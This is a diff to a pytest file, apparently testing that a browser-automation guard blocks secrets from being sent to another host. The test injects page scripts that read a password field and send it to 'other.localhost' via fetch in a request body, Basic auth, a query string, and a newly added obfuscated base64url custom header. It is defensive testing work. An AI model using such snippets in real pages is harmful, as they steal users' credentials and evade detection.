@@ -294,13 +294,16 @@ def test_secret_never_typed_on_another_host(tmp_path: Path, ev: Path, server: Te
     assert deny["decision"] == "deny" and any(c["guard"] == "secrets.input" for c in deny["checks"])
 
 
-@pytest.mark.parametrize("how", ["body", "basic-auth", "query"])
+@pytest.mark.parametrize("how", ["body", "basic-auth", "query", "base64url-header"])
 def test_secret_never_sent_to_another_host(tmp_path: Path, ev: Path, server: TestServer, how: str) -> None:
     other = server.url("other.localhost", "/api")
     send = {
         "body": f"fetch({json.dumps(other)}, {{method: 'POST', body: JSON.stringify({{pw: v}})}})",
         "basic-auth": f"fetch({json.dumps(other)}, {{headers: {{Authorization: 'Basic ' + btoa('bot:' + v)}}}})",
         "query": f"fetch({json.dumps(other)} + '?pw=' + encodeURIComponent(v))",
+        # a custom header, base64url without padding, after a prefix that shifts the alignment
+        "base64url-header": f"fetch({json.dumps(other)}, {{headers: {{'X-Session': "
+                            "btoa('ab' + v).replace(/\\+/g, '-').replace(/\\//g, '_').replace(/=+$/, '')}})",
     }[how]
     script = f"""<script>document.getElementById('go').addEventListener('click', (e) => {{ e.preventDefault();
       const v = document.getElementById('q').value; {send}; }});</script>"""
